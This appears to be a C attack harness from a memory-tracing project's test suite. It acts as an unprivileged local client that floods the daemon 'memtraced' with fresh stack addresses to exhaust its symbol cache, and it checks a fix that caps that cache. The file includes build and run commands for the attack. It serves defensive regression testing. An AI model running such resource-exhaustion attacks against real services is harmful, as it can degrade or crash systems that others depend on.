/*
 * frame_leak.c - a local user tries to grow memtraced's memory without
 * bound through the symbol cache and the store: every session brings up to
 * --max-stacks x 256 return addresses never seen before, and its exit
 * snapshot resolves (and stores) every one of them.
 *
 * Before: the cache kept one frame per distinct address for ever (2.5 GB
 * of daemon). Now it is bounded by --max-symbol-cache-bytes (a quarter per
 * uid: this attacker's frames past 64 MiB are resolved but not cached;
 * tests/e2e/e2e_limits.c symbol_cache pins it), and a large snapshot's
 * memory is given back to the system once written.
 *
 * Each round: a hostile agent whose region holds K stacks of 256 addresses
 * never seen before, one live block per stack, says hello and closes; the
 * exit snapshot resolves K*256 new frames.
 *
 * Build: cc -O2 -Iproto -o /tmp/frame_leak bench/attacks/frame_leak.c
 * Run (as the attacker, against a memtraced whose runtime directory it can
 * reach):
 *   setpriv --reuid=65534 --regid=65534 --clear-groups \
 *       /tmp/frame_leak RUNTIME_DIR [K=8192] [ROUNDS=4] [BASE=1]
 * Watch (root): grep VmRSS /proc/$(pidof memtraced)/status after each round,
 *   memtracectl status (limits.symbol_cache_bytes); this program prints
 *   nothing of the daemon: it has no rights to.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "proto.h"
#include "shm.h"

static void put_u32(uint8_t *p, uint32_t v)
{
	memcpy(p, &v, 4);
}

static int hello_with(const char *dir, int r)
{
	uint8_t f[8 + 48];
	memset(f, 0, sizeof f);
	put_u32(f, 48);
	f[4] = PROTO_HELLO;
	put_u32(f + 8, PROTO_VERSION);
	put_u32(f + 16, 32);
	put_u32(f + 20, (uint32_t)getpid());
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	snprintf(a.sun_path, sizeof a.sun_path, "%s/agent.sock", dir);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) < 0) {
		perror("connect");
		exit(1);
	}
	union {
		struct cmsghdr h;
		char space[CMSG_SPACE(sizeof(int))];
	} ctl;
	struct iovec iov = {f, sizeof f};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1};
	memset(&ctl, 0, sizeof ctl);
	msg.msg_control = ctl.space;
	msg.msg_controllen = sizeof ctl.space;
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &r, sizeof(int));
	if (sendmsg(fd, &msg, MSG_NOSIGNAL) != (ssize_t)sizeof f) {
		perror("hello");
		exit(1);
	}
	return fd;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	uint32_t K = argc > 2 ? (uint32_t)atoi(argv[2]) : 8192;
	int rounds = argc > 3 ? atoi(argv[3]) : 4;
	uint64_t base = argc > 4 ? strtoull(argv[4], NULL, 0) : 1;
	if (K == 0 || K > SHM_STACK_CAP || K > (uint64_t)SHM_NRINGS * SHM_RING_CAP)
		return 2;
	for (int round = 0; round < rounds; round++) {
		int r = memfd_create("fl", MFD_CLOEXEC | MFD_ALLOW_SEALING);
		if (r < 0 || ftruncate(r, (off_t)SHM_SIZE) < 0 ||
		    fcntl(r, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW) < 0)
			return 1;
		char *map = mmap(NULL, SHM_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, r, 0);
		if (map == MAP_FAILED)
			return 1;
		struct shm_header *hd = (struct shm_header *)map;
		hd->magic = SHM_MAGIC;
		hd->version = PROTO_VERSION;
		uint64_t off = 0, seq = 1;
		uint32_t ring = 0;
		uint64_t addr0 = (base + (uint64_t)round) << 36; /* fresh addresses each round */
		for (uint32_t id = 1; id <= K; id++) {
			struct shm_stack *e = (struct shm_stack *)(map + SHM_OFF_ARENA + off);
			e->hash = id;
			e->nframes = PROTO_MAX_FRAMES;
			uint64_t *fr = (uint64_t *)(e + 1);
			for (uint32_t k = 0; k < PROTO_MAX_FRAMES; k++)
				fr[k] = addr0 + ((uint64_t)id * PROTO_MAX_FRAMES + k) * 16;
			((uint64_t *)(map + SHM_OFF_OFFSETS))[id] = off;
			((uint8_t *)(map + SHM_OFF_STATES))[id] = SHM_STACK_READY;
			off += sizeof(*e) + 8 * PROTO_MAX_FRAMES;
			struct shm_ring *rg = (struct shm_ring *)(map + SHM_OFF_RING(ring));
			uint64_t h = rg->head;
			rg->ev[h % SHM_RING_CAP] =
			    (struct shm_ev){seq++ << PROTO_EV_KIND_BITS | PROTO_EV_ALLOC,
			                    0x10000 + (uint64_t)id * 64, 64, id, 0};
			rg->head = h + 1;
			if (rg->head == SHM_RING_CAP)
				ring++;
		}
		for (uint32_t i = 0; i <= ring && i < SHM_NRINGS; i++)
			((struct shm_ring *)(map + SHM_OFF_RING(i)))->pending = UINT64_MAX;
		hd->nrings = ring + 1;
		hd->seq = seq;
		munmap(map, SHM_SIZE);
		int fd = hello_with(argv[1], r);
		close(r);
		usleep(300000);
		close(fd); /* the end: final drain, exit snapshot resolves every frame */
		printf("round %d: %u stacks x 256 new addresses\n", round, K);
		fflush(stdout);
		sleep(8);
	}
	return 0;
}
